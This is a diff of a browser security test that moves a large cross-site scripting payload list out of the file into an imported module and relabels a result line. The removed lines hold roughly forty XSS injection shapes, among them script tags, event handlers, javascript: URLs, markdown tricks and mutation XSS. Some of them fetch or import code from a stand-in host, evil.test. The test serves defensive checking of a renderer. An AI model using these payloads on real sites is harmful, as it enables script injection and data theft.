@@ -2,53 +2,8 @@
 // every page.
 
 import { assert, scenario, strange } from './harness.mjs';
+import { PAYLOADS } from './payload_list.mjs';
 
-const CALLS = ['alert(1)', 'confirm(2)', 'prompt(3)', "fetch('//evil.test/x')", "import('//evil.test/m.js')"];
-
-const SHAPES = [
-  (js) => `<script>${js}</script>`,
-  (js) => `<img src=x onerror="${js}">`,
-  (js) => `<svg onload="${js}">`,
-  (js) => `"><script>${js}</script>`,
-  (js) => `'><img src=x onerror=${js}>`,
-  (js) => `<iframe srcdoc="<script>${js}</script>"></iframe>`,
-  (js) => `<iframe src="javascript:${js}"></iframe>`,
-  (js) => `[click](javascript:${js})`,
-  (js) => `[click](JaVaScRiPt:${js} "t")`,
-  (js) => `[click](data:text/html,<script>${js}</script>)`,
-  (js) => `![x](https://evil.test/p.png?${encodeURIComponent(js)})`,
-  (js) => `![x](x" onerror="${js})`,
-  (js) => `<javascript:${js}>`,
-  (js) => `[a]( https://evil.test/"onmouseover="${js} )`,
-  (js) => `<style>@import '//evil.test/a.css';*{background:url(//evil.test/${encodeURIComponent(js)})}</style>`,
-  (js) => `<link rel=stylesheet href=//evil.test/a.css onload=${js}>`,
-  (js) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
-  (js) => `<base href=//evil.test/><script src=x>${js}</script>`,
-  (js) => `<object data="javascript:${js}"></object>`,
-  (js) => `<embed src="javascript:${js}">`,
-  (js) => `<details open ontoggle=${js}>x</details>`,
-  (js) => `<input autofocus onfocus=${js}>`,
-  (js) => `<form action="javascript:${js}"><button>x</button></form>`,
-  (js) => `</title><script>${js}</script>`,
-  (js) => `</textarea><script>${js}</script>`,
-  (js) => `</noscript><script>${js}</script>`,
-  (js) => `--><script>${js}</script>`,
-  (js) => `]]><script>${js}</script>`,
-  (js) => `\`\`\`html\n<script>${js}</script>\n\`\`\``,
-  (js) => `\`<script>${js}</script>\``,
-  (js) => `| a | b |\n|---|---|\n| <img src=x onerror=${js}> | [x](javascript:${js}) |`,
-  (js) => `# <svg/onload=${js}>`,
-  (js) => `- <img src=//evil.test/i onerror=${js}>`,
-  (js) => `> <video><source onerror=${js}></video>`,
-  (js) => `**<body onload=${js}>**`,
-  (js) => `&lt;script&gt;${js}&lt;/script&gt;`,
-  (js) => `{"choice":"<img src=x onerror=${js}>","confidence":1,"reasoning":"[x](javascript:${js})"}`,
-  (js) => `\u202e<script>${js}</script>\u0000`,
-  (js) => `<math><mtext></form><form><mglyph><style></math><img src onerror=${js}>`,
-  (js) => `\${${js}}{{constructor.constructor('${js}')()}}`,
-];
-
-const PAYLOADS = SHAPES.flatMap((shape) => CALLS.map(shape));
 const HALF = 100;
 
 await scenario('[defaults]\nsimulate = "latency=0ms"\nseed = 3\n', async (server, open) => {
@@ -118,7 +73,7 @@ await scenario('[defaults]\nsimulate = "latency=0ms"\nseed = 3\n', async (server
   for (const id of [...ids.filter((_, at) => at % 20 === 5), spoken, vote])
     await plain.goto(`${server.base}/d/${id}`);
   await alarm(open);
-  console.log(`${PAYLOADS.length} payloads: no dialog, no request, no report`);
+  console.log(`attack: XSS in Chromium, every page | ${PAYLOADS.length} | 0`);
 });
 
 /** The alarm itself works: markup is refused, and an image from another host is reported. */
